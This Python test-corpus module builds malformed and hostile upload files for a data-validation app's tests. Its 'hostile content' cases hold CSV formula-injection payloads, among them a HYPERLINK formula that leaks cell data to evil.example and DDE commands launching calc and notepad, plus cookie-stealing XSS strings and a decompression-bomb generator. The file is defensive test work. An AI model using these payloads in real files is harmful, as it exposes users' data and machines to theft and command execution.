"""The corpus of bad upload files: what analysts (and attackers) really produce.

Each case is (file name, table, bytes, expected problem code, expected row, expected column);
row is the file row as a spreadsheet shows it (header = row 1), None where no row applies.
`python -m tests.corpus.generate DIR` writes the files out, e.g. to try them in the app by hand.
The 60 MB file is not here: tests generate it into tmp_path (see `big_file`).
"""

from __future__ import annotations

import io
import random
import zipfile
from dataclasses import dataclass
from pathlib import Path

from openpyxl import Workbook

DATA = Path(__file__).resolve().parents[2] / "data"
PROGRESS_HEADER = "target_id,period_end,region_id,value,illustrative"
PROGRESS_ROWS = ["T1,2018-03-31,US,1,true", "T1,2018-06-30,US,2,true", "T2,2018-03-31,SEA,10.5,true",
                 "T3,2018-03-31,,7,true"]


@dataclass(frozen=True)
class Case:
    name: str
    table: str
    data: bytes
    code: str
    row: int | None = None
    column: str | None = None


def progress(*rows: str, header: str = PROGRESS_HEADER, newline: str = "\r\n", encoding: str = "utf-8") -> bytes:
    return newline.join([header, *rows]).encode(encoding) + newline.encode(encoding)


def shipped(table: str) -> list[str]:
    return (DATA / f"{table}.csv").read_text(encoding="utf-8").splitlines()


def replace_cell(table: str, line: int, column: str, value: str) -> bytes:
    """The shipped CSV with one cell replaced (line 1 = header); `value` is written CSV-quoted."""
    import csv

    rows = list(csv.reader(shipped(table)))
    position = rows[0].index(column)
    rows[line - 1][position] = value
    buffer = io.StringIO()
    csv.writer(buffer, lineterminator="\r\n").writerows(rows)
    return buffer.getvalue().encode("utf-8")


def without_line(table: str, predicate) -> bytes:
    lines = shipped(table)
    kept = [lines[0]] + [line for line in lines[1:] if not predicate(line)]
    return ("\r\n".join(kept) + "\r\n").encode("utf-8")


def xlsx(rows: list[list[object]], sheet: str = "progress") -> bytes:
    workbook = Workbook()
    worksheet = workbook.active
    worksheet.title = sheet
    for row in rows:
        worksheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def zip_bytes(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def xlsx_bomb() -> bytes:
    """A real workbook plus one 12 MB member of zeros (compresses ~1000:1: a decompression bomb)."""
    good = zipfile.ZipFile(io.BytesIO(xlsx([PROGRESS_HEADER.split(",")])))
    members = {info.filename: good.read(info.filename) for info in good.infolist()}
    members["xl/media/padding.bin"] = bytes(12 * 1024 * 1024)
    return zip_bytes(members)


def junk(size: int = 4096, seed: int = 7) -> bytes:
    rng = random.Random(seed)
    return bytes(rng.randrange(256) for _ in range(size))


def cases() -> list[Case]:
    long_text = "x" * 2500
    korean_rows = "\r\n".join(["권역 ID,이름(한국어)", "SEA,동남아"])
    return [
        # ---- not a table at all
        Case("empty.csv", "progress", b"", "empty_file"),
        Case("blank_lines_only.csv", "progress", b"  \r\n\r\n \t \r\n", "empty_file"),
        Case("header_only.csv", "progress", progress(), "no_rows"),
        Case("binary_junk.csv", "progress", b"\x00\x01" + junk(), "binary"),
        Case("image_renamed.csv", "progress", b"\x89PNG\r\n\x1a\n" + junk(512), "binary"),
        Case("pdf_renamed.csv", "progress", b"%PDF-1.7\n" + junk(512), "binary"),
        Case("legacy_excel.xls", "progress", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + junk(512), "binary"),
        Case("zip_not_workbook.xlsx", "progress", zip_bytes({"readme.txt": b"hello"}), "binary"),
        Case("truncated_workbook.xlsx", "progress", xlsx([["a"], [1]])[:300], "binary"),
        Case("web_page.csv", "progress", b"<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>",
             "not_a_table"),
        Case("decompression_bomb.xlsx", "progress", xlsx_bomb(), "xlsx_bomb"),
        Case("too_many_columns.csv", "progress",
             (",".join(f"c{i}" for i in range(250)) + "\r\n" + ",".join("1" * 250) + "\r\n").encode(),
             "too_many_columns", 1),
        # ---- wrong encoding declared
        Case("utf8_bom_but_cp949.csv", "regions", b"\xef\xbb\xbf" + korean_rows.encode("cp949"), "encoding", 1),
        Case("utf16_bom_but_cp949.csv", "regions", b"\xff\xfe" + (korean_rows + "!").encode("cp949"), "encoding"),
        # ---- structure
        Case("missing_column.csv", "progress",
             progress("T1,2018-03-31,US,true", header="target_id,period_end,region_id,illustrative"),
             "missing_column", 1, "value"),
        Case("extra_column.csv", "progress",
             progress("T1,2018-03-31,US,1,true,x", header=PROGRESS_HEADER + ",comment"), "unknown_column", 1, "comment"),
        Case("duplicate_header.csv", "progress",
             progress("T1,2018-03-31,US,1,true,2", header=PROGRESS_HEADER + ",value"), "duplicate_header", 1),
        Case("duplicate_header_alias.csv", "progress",
             progress("T1,2018-03-31,US,1,true,2", header=PROGRESS_HEADER + ",성과(증가분)"), "duplicate_header", 1),
        Case("value_without_header.csv", "progress",
             progress("T1,2018-03-31,US,1,true,,", "T1,2018-06-30,US,2,true,,oops", header=PROGRESS_HEADER + ",,"),
             "blank_header", 3),
        Case("ragged_row.csv", "progress", progress(PROGRESS_ROWS[0], "T1,2018-06-30,US,2,true,extra,cells"),
             "ragged_row", 3),
        Case("unclosed_quote.csv", "progress", progress(PROGRESS_ROWS[0], 'T1,2018-06-30,"US,2,true', PROGRESS_ROWS[2]),
             "unclosed_quote", 3),
        # ---- wrong types
        Case("not_a_number.csv", "progress", progress(PROGRESS_ROWS[0], "T1,2018-06-30,US,twelve,true"),
             "not_float", 3, "value"),
        Case("impossible_date.csv", "progress", progress(PROGRESS_ROWS[0], "T1,2018-02-30,US,2,true"),
             "not_date", 3, "period_end"),
        Case("us_style_date.csv", "progress", progress("T1,03/31/2018,US,2,true"), "not_date", 2, "period_end"),
        Case("not_a_bool.csv", "progress", progress("T1,2018-03-31,US,2,maybe"), "not_bool", 2, "illustrative"),
        Case("fraction_in_int.csv", "targets", replace_cell("targets", 2, "baseline_year", "2017.5"),
             "not_int", 2, "baseline_year"),
        Case("infinity.csv", "progress", progress("T1,2018-03-31,US,inf,true"), "not_float", 2, "value"),
        # ---- values out of bounds
        Case("negative_value.csv", "progress", progress(PROGRESS_ROWS[0], "T1,2018-06-30,US,-5,true"),
             "minimum", 3, "value"),
        Case("absurd_value.csv", "progress", progress("T1,2018-03-31,US,\"1,000,000,000,000\",true"),
             "maximum", 2, "value"),
        Case("latitude_out_of_range.csv", "hubs", replace_cell("hubs", 3, "lat", "123.4"), "maximum", 3, "lat"),
        Case("empty_required.csv", "progress", progress(",2018-03-31,US,1,true"), "required_value", 2, "target_id"),
        Case("text_too_long.csv", "hubs", replace_cell("hubs", 2, "name_en", long_text), "too_long", 2, "name_en"),
        Case("bad_id_form.csv", "hubs", replace_cell("hubs", 2, "hub_id", "kist eu"), "pattern", 2, "hub_id"),
        Case("not_allowed_unit.csv", "targets", replace_cell("targets", 3, "unit", "dollars"), "allowed", 3, "unit"),
        Case("not_a_country.csv", "hubs", replace_cell("hubs", 4, "country_iso3", "XXX"), "allowed", 4,
             "country_iso3"),
        # ---- keys and references
        Case("duplicate_key.csv", "progress", progress(*PROGRESS_ROWS, "T1,2018.03.31,US,3,true"),
             "duplicate_key", 6),
        Case("unknown_target.csv", "progress", progress(PROGRESS_ROWS[0], "T9,2018-03-31,US,1,true"),
             "reference", 3, "target_id"),
        Case("unknown_region.csv", "progress", progress("T1,2018-03-31,ATLANTIS,1,true"), "reference", 2,
             "region_id"),
        Case("region_still_used.csv", "regions", without_line("regions", lambda line: line.startswith("SEA,")),
             "still_referenced", None, "region_id"),
        Case("target_still_used.csv", "targets", without_line("targets", lambda line: line.startswith("T2,")),
             "still_referenced", None, "target_id"),
        # ---- hostile content
        Case("formula_hyperlink.csv", "hubs",
             replace_cell("hubs", 2, "name_en", '=HYPERLINK("http://evil.example/?"&A1,"click")'),
             "formula", 2, "name_en"),
        Case("formula_at.csv", "hubs", replace_cell("hubs", 3, "source", "@SUM(1+1)*cmd|' /C calc'!A0"),
             "formula", 3, "source"),
        Case("formula_plus.csv", "hubs", replace_cell("hubs", 2, "city_en", "+cmd|' /C notepad'!A1"), "formula", 2,
             "city_en"),
        Case("html_script.csv", "hubs", replace_cell("hubs", 2, "name_en", "<script>alert(document.cookie)</script>"),
             "markup", 2, "name_en"),
        Case("html_img_onerror.csv", "hubs", replace_cell("hubs", 4, "name_ko", '<img src=x onerror="alert(1)">'),
             "markup", 4, "name_ko"),
        Case("javascript_link.csv", "hubs", replace_cell("hubs", 2, "source", "javascript:alert(1)"), "markup", 2,
             "source"),
        Case("control_character.csv", "hubs", replace_cell("hubs", 2, "name_en", "KIST\x1b[31m Europe"),
             "control_character", 2, "name_en"),
        # ---- spreadsheet files
        Case("bad_value.xlsx", "progress",
             xlsx([PROGRESS_HEADER.split(","), ["T1", "2018-03-31", "US", 1, True], ["T1", "2018-06-30", "US", "n/a",
                                                                                       True]]),
             "not_float", 3, "value"),
        Case("header_only.xlsx", "progress", xlsx([PROGRESS_HEADER.split(",")]), "no_rows"),
    ]


def big_file(path: Path, size: int = 60 * 1024 * 1024) -> Path:
    """A 60 MB progress CSV (valid rows, just too big), written to `path` at test time."""
    row = b"T1,2018-03-31,US,1,true\r\n"
    with path.open("wb") as handle:
        handle.write(PROGRESS_HEADER.encode() + b"\r\n")
        chunk = row * 40_000
        written = 0
        while written < size:
            handle.write(chunk)
            written += len(chunk)
    return path
